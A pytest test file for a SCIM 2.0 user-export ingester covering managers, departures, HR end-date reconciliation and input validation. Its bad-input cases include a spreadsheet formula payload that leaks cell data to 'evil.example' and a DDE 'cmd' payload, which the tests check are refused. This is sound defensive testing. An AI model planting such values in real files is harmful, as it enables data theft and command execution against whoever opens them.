"""SCIM 2.0 ListResponse of Users: people, teams, managers by SCIM id, deactivated users as departed."""
from __future__ import annotations

import copy
import json
import os
from datetime import date, datetime, time, timedelta, timezone
from dataclasses import replace

import pytest

from ingest.errors import IngestError
from ingest.pipeline import ingest_files
from ingest.scim import parse_batch
from ingest.dates import file_observed_at
from tests.builders import hr_csv
from tests.conftest import FIXTURES

USERS = FIXTURES / "scim" / "users.json"
ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"
LIMIT = 8 * 1024 * 1024


def _document() -> dict:
    return json.loads(USERS.read_text())


def _write(tmp_path, document, name="users.json"):
    path = tmp_path / name
    path.write_text(document if isinstance(document, str) else json.dumps(document, indent=2))
    return path


def test_parser_reads_users_and_skips_groups():
    batch = parse_batch(USERS, LIMIT)
    assert batch.skipped == 1            # the Group
    people = {p.email: p for p in batch.people}
    assert sorted(people) == ["ayoung@example.com", "bjensen@example.com", "john.smith@example.com",
                              "mpepperidge@example.com"]
    babs = people["bjensen@example.com"]     # the primary e-mail, formatted name, enterprise extension
    assert (babs.name, babs.employee_id, babs.department, babs.manager_email, babs.departed_by) == (
        "Ms. Barbara J Jensen, III", "701984", "Tour Operations", "john.smith@example.com", None)
    john = people["john.smith@example.com"]  # no primary: the first work e-mail; given + family name
    assert (john.name, john.manager_email) == ("John Smith", None)
    mark = people["mpepperidge@example.com"]  # no e-mails: userName; displayName; inactive
    assert (mark.name, mark.department, mark.manager_email) == ("Mark Pepperidge", "Finance", "john.smith@example.com")
    assert (mark.departed_by, mark.end_date) == (file_observed_at(USERS).date(), None)   # SCIM has no dates
    assert not any(p.states_dates for p in batch.people)
    alice = people["ayoung@example.com"]      # manager not in this file: left out, said in the record
    assert alice.manager_email is None
    assert "manager id 'f1e2d3c4-0000-4000-8000-00000000abcd' not in this file" in alice.record
    assert not any(p.start_date for p in batch.people)


def test_manager_by_ref_only_and_string_active(tmp_path):
    document = _document()
    alice = document["Resources"][3]
    alice["active"] = "False"                     # some providers send strings
    alice[ENTERPRISE]["manager"] = {"$ref": "https://example.com/v2/Users/2819c223-7f76-453a-919d-413861904646"}
    people = {p.email: p for p in parse_batch(_write(tmp_path, document), LIMIT).people}
    assert people["ayoung@example.com"].manager_email == "bjensen@example.com"
    assert people["ayoung@example.com"].departed_by is not None


def test_ingest_people_teams_managers_and_departures(store, settings):
    summary = ingest_files(store, "scim", [USERS], settings)
    assert (summary.records, summary.created, summary.skipped) == (4, 4, 1)
    rows = store.read("""
        MATCH (p:Person) OPTIONAL MATCH (p)-[:MEMBER_OF]->(t:Team) OPTIONAL MATCH (p)-[:REPORTS_TO]->(m:Person)
        RETURN p.email AS email, p.name AS name, p.employee_id AS employee, p.active AS active,
               t.name AS team, m.email AS manager ORDER BY email""")
    assert rows == [
        {"email": "ayoung@example.com", "name": "Alice Young", "employee": "100912", "active": True,
         "team": "Engineering", "manager": None},
        {"email": "bjensen@example.com", "name": "Ms. Barbara J Jensen, III", "employee": "701984", "active": True,
         "team": "Tour Operations", "manager": "john.smith@example.com"},
        {"email": "john.smith@example.com", "name": "John Smith", "employee": "100482", "active": True,
         "team": "Tour Operations", "manager": None},
        {"email": "mpepperidge@example.com", "name": "Mark Pepperidge", "employee": "100733", "active": False,
         "team": "Finance", "manager": "john.smith@example.com"},
    ]
    assert store.read("MATCH (p:Person)-[:SEEN_BY]->(s:Source) RETURN DISTINCT s.name AS source") == [
        {"source": "scim"}]
    before = store.counts()
    again = ingest_files(store, "scim", [USERS], settings)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 4)
    after = store.counts()
    assert after.pop("IngestRun") == before.pop("IngestRun") + 1
    assert after == before


def _people(store) -> dict[str, tuple]:
    rows = store.read("MATCH (p:Person) RETURN p.email AS email, p.start_date AS start, p.end_date AS end, "
                      "p.active AS active")
    return {row["email"]: (row["start"] and row["start"].to_native(), row["end"] and row["end"].to_native(),
                           row["active"]) for row in rows}


def _dated(path, day: date):
    moment = datetime.combine(day, time(12), timezone.utc).timestamp()
    os.utime(path, (moment, moment))
    return path


def test_a_disabled_account_keeps_the_directorys_earlier_end_date_and_moves_a_later_one(store, settings, tmp_path):
    today = datetime.now(timezone.utc).date()
    left, leaving = today - timedelta(days=180), today + timedelta(days=60)
    hr = hr_csv(tmp_path / "hr.csv", f"emma@example.com,Emma,E1,IT,,2020-01-01,{left}",
                f"cy@example.com,Cy,E2,IT,,2021-01-01,{leaving}", "ada@example.com,Ada,E3,IT,,2019-01-01,")
    ingest_files(store, "hr", [hr], settings)
    scim = tmp_path / "scim.json"
    scim.write_text(json.dumps(_list(_user(0, "emma@example.com", active=False),
                                     _user(1, "cy@example.com", active=False), _user(2, "ada@example.com"))))
    ingest_files(store, "scim", [_dated(scim, today - timedelta(days=1))], settings)
    assert _people(store) == {
        "emma@example.com": (date(2020, 1, 1), left, False),                         # HR's date stays
        "cy@example.com": (date(2021, 1, 1), today - timedelta(days=1), False),      # disabled before HR's date
        "ada@example.com": (date(2019, 1, 1), None, True),                           # HR's start date stays
    }
    # a disabled account dated the day after HR's end date, or that day, keeps it; the day before moves it
    for offset, ended in ((1, left), (0, left), (-1, left - timedelta(days=1))):
        ingest_files(store, "scim", [_dated(scim, left + timedelta(days=offset))], settings)
        assert _people(store)["emma@example.com"][1] == ended
    assert store.read("MATCH (p:Person {email: 'emma@example.com'}) RETURN p.name AS name") == [{"name": "Emma"}]
    scim.write_text(json.dumps(_list(_user(0, "emma@example.com"))))      # enabled again: HR's date is back
    ingest_files(store, "scim", [_dated(scim, today)], settings)
    assert _people(store)["emma@example.com"] == (date(2020, 1, 1), left, False)


def test_an_account_that_comes_back_loses_only_the_end_date_its_directory_gave(store, settings, tmp_path):
    today = datetime.now(timezone.utc).date()
    hr = hr_csv(tmp_path / "hr.csv", f"emma@example.com,Emma,E1,IT,,2020-01-01,{today}")
    ingest_files(store, "hr", [hr], settings)
    scim = tmp_path / "scim.json"
    scim.write_text(json.dumps(_list(_user(0, "emma@example.com"), _user(1, "bob@example.com", active=False))))
    ingest_files(store, "scim", [_dated(scim, today - timedelta(days=3))], settings)
    assert _people(store)["bob@example.com"] == (None, today - timedelta(days=3), False)
    hr_csv(hr, f"emma@example.com,Emma,E1,IT,,2020-01-01,{today}", "bob@example.com,Bob,E9,IT,,2022-01-01,")
    ingest_files(store, "hr", [hr], settings)
    assert _people(store)["bob@example.com"] == (date(2022, 1, 1), today - timedelta(days=3), False)  # HR: no date
    scim.write_text(json.dumps(_list(_user(0, "emma@example.com"), _user(1, "bob@example.com"))))
    ingest_files(store, "scim", [_dated(scim, today)], settings)
    people = _people(store)
    assert people["bob@example.com"] == (date(2022, 1, 1), None, True)   # re-enabled where it was disabled
    assert people["emma@example.com"] == (date(2020, 1, 1), today, False)  # HR says she left today: SCIM cannot undo it


def test_people_stored_before_disabled_accounts_were_kept_apart(store, settings, tmp_path):
    """Such a node has only end_date: another directory's (kept until it speaks again), or SCIM's own."""
    today = datetime.now(timezone.utc).date()
    left = today - timedelta(days=30)
    for email, source in (("emma@example.com", "hr"), ("bob@example.com", "scim"), ("cy@example.com", "scim")):
        store.execute("MERGE (s:Source {name: $source}) CREATE (:Person {email: $email, end_date: $left, "
                      "active: false})-[:SEEN_BY]->(s)", email=email, source=source, left=left)
    scim = tmp_path / "scim.json"
    scim.write_text(json.dumps(_list(_user(0, "emma@example.com"), _user(1, "bob@example.com"),
                                     _user(2, "cy@example.com", active=False))))
    ingest_files(store, "scim", [_dated(scim, today)], settings)
    people = _people(store)
    assert people["emma@example.com"] == (None, left, False)    # HR's, for all SCIM knows
    assert people["bob@example.com"] == (None, None, True)      # SCIM's own: the account is back
    assert people["cy@example.com"] == (None, left, False)      # still disabled, since the older file


def _user(i: int, email: str, **extra) -> dict:
    return {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "id": f"u{i}", "userName": email,
            "emails": [{"value": email, "type": "work", "primary": True}], **extra}


def _list(*resources) -> dict:
    return {"schemas": ["urn:ietf:params:scim:api:messages:2.0:ListResponse"], "totalResults": len(resources),
            "Resources": list(resources)}


BAD = [
    pytest.param(_user(0, "a@example.com"),
                 "not a SCIM 2.0 ListResponse file: 'schemas' lacks urn:ietf:params:scim:api:messages:2.0:"
                 "ListResponse (this is a single User; export the list with GET /Users)", id="single-user"),
    pytest.param({"spdxVersion": "SPDX-2.3", "packages": []}, "not a SCIM 2.0 ListResponse file", id="other-json"),
    pytest.param([], "not a SCIM 2.0 ListResponse file", id="json-array"),
    pytest.param('{"schemas": ["urn:ietf:params:scim:api:messages:2.0:ListResponse"],\n"Resources": [\n{"id": ',
                 "users.json line 3: malformed JSON: Expecting value", id="truncated"),
    pytest.param("[" * 100_000 + "]" * 100_000, "malformed JSON: nested too deeply", id="deep-nesting"),
    pytest.param(_list({"schemas": ["urn:ietf:params:scim:schemas:core:2.0:Schema"], "id": "x"}),
                 "field 'Resources[0].schemas': not a User (schemas urn:ietf:params:scim:schemas:core:2.0:Schema)",
                 id="not-a-user"),
    pytest.param(_list(_user(0, "a@example.com"), _user(1, "A@Example.com")),
                 "field 'Resources[1].emails[0].value': a@example.com is already the e-mail of Resources[0]",
                 id="duplicate-email"),
    pytest.param(_list({**_user(0, "ada"), "emails": [{"value": "ada@home.example", "type": "home"}]}),
                 "field 'Resources[0].emails': no primary or work e-mail, and userName is not an e-mail address",
                 id="no-email"),
    pytest.param(_list(_user(0, "a@example.com", emails=[{"value": "a@example.com", "primary": True},
                                                         {"value": "b@example.com", "primary": True}])),
                 "field 'Resources[0].emails': 2 e-mails are marked primary", id="two-primaries"),
    pytest.param(_list(_user(0, "a@example.com", emails=[{"value": "not mail", "primary": True}])),
                 "field 'Resources[0].emails[0].value': 'not mail' is not an e-mail address", id="bad-email"),
    pytest.param(_list(_user(0, "a@example.com", displayName='=HYPERLINK("http://evil.example/?x="&A1,"x")')),
                 "field 'Resources[0].displayName': '=HYPERLINK(\"http://evil.example/?x=\"&...' looks like a "
                 "spreadsheet formula (starts with '=')", id="formula-name"),
    pytest.param(_list(_user(0, "a@example.com", **{ENTERPRISE: {"department": "@SUM(1+1)*cmd|' /C calc'!A0"}})),
                 f"field 'Resources[0].{ENTERPRISE}.department': ", id="formula-department"),
    pytest.param(_list(_user(0, "a@example.com", active="maybe")),
                 "field 'Resources[0].active': 'maybe' is not true or false", id="bad-active"),
    pytest.param(_list(_user(0, "a@example.com", name="Ada")),
                 "field 'Resources[0].name': expected an object, found a string", id="name-not-object"),
    pytest.param(_list(_user(0, "a@example.com", **{ENTERPRISE: {"manager": {"value": "u0"}}})),
                 f"field 'Resources[0].{ENTERPRISE}.manager': the user is their own manager", id="own-manager"),
    pytest.param({"schemas": ["urn:ietf:params:scim:api:messages:2.0:ListResponse"], "Resources": {"a": 1}},
                 "field 'Resources': expected a list, found an object", id="resources-not-list"),
]


@pytest.mark.parametrize("document, message", BAD)
def test_bad_input_is_refused_and_writes_nothing(store, settings, tmp_path, document, message):
    ingest_files(store, "scim", [USERS], settings)
    before = store.counts()
    path = _write(tmp_path, document)
    with pytest.raises(IngestError) as caught:
        ingest_files(store, "scim", [path], settings)
    assert message in str(caught.value)
    assert str(caught.value).startswith(str(path))
    assert store.counts() == before


def test_every_problem_is_reported_at_once(tmp_path):
    document = _list(_user(0, "a@example.com", active=3), _user(1, "a@example.com"),
                     {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:Group"], "id": "g"})
    with pytest.raises(IngestError) as caught:
        parse_batch(_write(tmp_path, document), LIMIT)
    assert [p.field for p in caught.value.problems] == ["Resources[1].emails[0].value", "Resources[0].active"]


def test_oversized_binary_and_missing_files(store, settings, tmp_path):
    before = store.counts()
    small = replace(settings, max_file_bytes=1024)
    with pytest.raises(IngestError, match=r"users.json: file is \d+ bytes, over the limit of 1024 bytes"):
        ingest_files(store, "scim", [USERS], small)
    binary = tmp_path / "binary.json"
    binary.write_bytes(b'{"schemas": ["\xff\xfe"]}')
    with pytest.raises(IngestError, match="binary.json line 1: not UTF-8 text"):
        ingest_files(store, "scim", [binary], settings)
    with pytest.raises(IngestError, match="missing.json: no such file"):
        ingest_files(store, "scim", [tmp_path / "missing.json"], settings)
    assert store.counts() == before


def test_empty_list_response_is_fine(tmp_path):
    document = copy.deepcopy(_list())
    del document["Resources"]   # RFC 7644: Resources may be absent when there are no results
    assert parse_batch(_write(tmp_path, document), LIMIT).people == []
